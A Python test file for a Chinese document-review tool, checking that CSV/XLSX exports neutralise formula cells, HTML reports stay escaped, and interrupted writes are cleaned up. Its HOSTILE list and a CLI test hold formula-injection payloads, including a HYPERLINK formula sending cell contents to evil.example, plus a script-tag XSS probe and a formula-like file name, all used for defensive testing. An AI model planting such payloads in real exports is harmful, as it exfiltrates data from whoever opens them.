"""Exports are inert (no live formulas) and interrupted writes leave no litter behind."""
import csv
import io
import os
import subprocess
import sys
import time
import zipfile

import pytest
from lxml import etree

from reviewer.core.document import Document
from reviewer.core.export import export, render
from reviewer.core.export.atomic import clean_litter, write_atomic
from reviewer.core.findings import Finding
from tests.conftest import ROOT

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+2", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1",
           "＝1+1"]


class _Report:
    genre = "report_speech"

    def __init__(self, findings):
        self.findings = findings


def _doc_and_report():
    text = "\n".join(HOSTILE) + "\n正文"
    doc = Document.from_text(text, path="draft.txt")
    findings, pos = [], 0
    for line in HOSTILE:
        findings.append(Finding(rule="test.x", category="typo", severity="warning", start=pos, end=pos + len(line),
                                text=line, message=line, suggestion=line))
        pos += len(line) + 1
    return doc, _Report(findings)


def test_xlsx_cells_are_text_never_formulas():
    doc, rep = _doc_and_report()
    data = render(doc, rep, ".xlsx")
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        sheet = zf.read("xl/worksheets/sheet1.xml")
        styles = etree.fromstring(zf.read("xl/styles.xml"))
    root = etree.fromstring(sheet)
    ns = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
    assert root.findall(".//m:f", ns) == [], "no cell may hold a formula"
    assert all(c.get("t") in ("s", "inlineStr", "n", None) for c in root.findall(".//m:c", ns))
    quoted = {i for i, xf in enumerate(styles.find("m:cellXfs", ns)) if xf.get("quotePrefix") in ("1", "true")}
    assert quoted, "cells that start like a formula carry the quote prefix"
    from openpyxl import load_workbook

    ws = load_workbook(io.BytesIO(data))["问题清单"]
    texts = [ws.cell(row=r, column=6).value for r in range(2, ws.max_row + 1)]
    assert texts[0] == HOSTILE[0] and ws.cell(row=2, column=6).data_type == "s"
    assert ws.cell(row=2, column=6).quotePrefix


def _unsafe(cell: str) -> bool:
    return cell.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_csv_export_cells_prefixed(tmp_path):
    doc, rep = _doc_and_report()
    export(doc, rep, tmp_path / "out.csv")
    rows = list(csv.reader(io.StringIO((tmp_path / "out.csv").read_bytes().decode("utf-8-sig"))))
    cells = [c for row in rows[1:] for c in row]
    assert not [c for c in cells if _unsafe(c)]
    assert "'" + HOSTILE[0] in cells and "'+1+2" in cells and "'-2+3" in cells and "'@SUM(1,2)" in cells


def test_cli_csv_cells_prefixed(tmp_path):
    draft = tmp_path / "=1+2.txt"  # the file column starts like a formula too
    draft.write_text("在全县工作会议上的讲话\n同志们：\n=HYPERLINK(\"http://evil.example\",\"XX县\")，截止目前，工作稳步推进。\n"
                     "-XX县各项工作稳步推进。\n", encoding="utf-8")
    out = subprocess.run([sys.executable, "-m", "reviewer", "check", "--format", "csv", draft.name],
                         capture_output=True, text=True, encoding="utf-8", cwd=tmp_path, timeout=120,
                         env={**os.environ, "PYTHONPATH": str(ROOT)})
    rows = list(csv.DictReader(io.StringIO(out.stdout.lstrip("\ufeff"))))
    assert rows and all(row["file"] == "'=1+2.txt" for row in rows)
    assert not [v for row in rows for v in row.values() if v and _unsafe(v)]


def test_html_report_stays_escaped():
    doc, rep = _doc_and_report()
    doc = Document.from_text('<script>alert(1)</script>\n' + doc.text, path="<b>x</b>.txt")
    html = render(doc, _Report([]), ".html").decode("utf-8")
    assert "<script>" not in html and "&lt;script&gt;" in html and "<b>x</b>" not in html
    etree.fromstring(html.encode("utf-8"))  # well-formed


def _age(path, seconds):
    t = time.time() - seconds
    os.utime(path, (t, t), follow_symlinks=False)


def test_stale_temp_files_cleaned_by_name_and_age(tmp_path, monkeypatch):
    monkeypatch.setenv("REVIEWER_CACHE_DIR", str(tmp_path / "cache"))
    old = tmp_path / ".问题清单.xlsx.reviewer-ab12cd34.tmp"
    legacy = tmp_path / ".批注.docx.k3j4h5g6.tmp"
    fresh = tmp_path / ".问题清单.xlsx.reviewer-zz99yy88.tmp"
    unrelated = tmp_path / ".notes.tmp"
    for p in (old, legacy, fresh, unrelated):
        p.write_bytes(b"x" * 100)
    for p in (old, legacy, unrelated):
        _age(p, 7200)
    clean_litter([tmp_path])
    assert not old.exists() and not legacy.exists()
    assert fresh.exists() and unrelated.exists()


def test_journal_removes_temp_of_a_killed_process_anywhere(tmp_path, monkeypatch):
    """kill -9 during a write: the next start removes the temporary file at once."""
    monkeypatch.setenv("REVIEWER_CACHE_DIR", str(tmp_path / "cache"))
    dest = tmp_path / "far away"
    dest.mkdir()
    script = ("import os, sys\n"
              "from reviewer.core.export import atomic\n"
              "real = os.fsync\n"
              "def stop(fd):\n"
              "    os.kill(os.getpid(), 9)\n"
              "os.fsync = stop\n"
              "atomic.write_atomic(sys.argv[1], b'x' * 100000)\n")
    proc = subprocess.run([sys.executable, "-c", script, str(dest / "out.xlsx")], cwd=ROOT, timeout=60,
                          env={**os.environ, "REVIEWER_CACHE_DIR": str(tmp_path / "cache")})
    assert proc.returncode == -9
    left = [p.name for p in dest.iterdir()]
    assert len(left) == 1 and left[0].endswith(".tmp")  # the litter the issue describes
    clean_litter()  # no folder given: the journal knows where it is
    assert list(dest.iterdir()) == []
    assert list((tmp_path / "cache" / "pending").iterdir()) == []


def test_journal_keeps_files_of_live_writers(tmp_path, monkeypatch):
    monkeypatch.setenv("REVIEWER_CACHE_DIR", str(tmp_path / "cache"))
    from reviewer.core.export import atomic

    tmp = tmp_path / ".a.xlsx.reviewer-abcdefgh.tmp"
    tmp.write_bytes(b"x")
    entry = atomic._journal_add(str(tmp))  # this process is alive
    clean_litter()
    assert tmp.exists() and os.path.exists(entry)
    atomic._journal_remove(entry)


def test_cli_export_cleans_destination_folder(tmp_path):
    stale = tmp_path / ".问题清单.xlsx.reviewer-a1b2c3d4.tmp"
    stale.write_bytes(b"x" * 1000)
    _age(stale, 7200)
    draft = tmp_path / "draft.txt"
    draft.write_text("在全县工作会议上的讲话\n同志们：\nXX县各项工作稳步推进。\n", encoding="utf-8")
    out = subprocess.run([sys.executable, "-m", "reviewer", "export", str(draft), "--to", str(tmp_path / "问题清单.xlsx")],
                         capture_output=True, text=True, encoding="utf-8", cwd=ROOT, timeout=120,
                         env={**os.environ, "REVIEWER_CACHE_DIR": str(tmp_path / "cache")})
    assert out.returncode == 0, out.stderr
    assert not stale.exists() and (tmp_path / "问题清单.xlsx").exists()
    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".tmp")]


def test_write_atomic_errors_are_chinese_and_leave_nothing(tmp_path):
    from reviewer.core.export import SaveError

    ro = tmp_path / "ro"
    ro.mkdir()
    (ro / "x.xlsx").mkdir()
    with pytest.raises(SaveError) as err:
        write_atomic(ro / "x.xlsx", b"data")
    assert "x.xlsx" in str(err.value) and "\n" not in str(err.value)
    with pytest.raises(SaveError, match="不存在"):
        write_atomic(tmp_path / "nope" / "a.csv", b"data")
    assert not [p for p in ro.iterdir() if p.name.endswith(".tmp")]
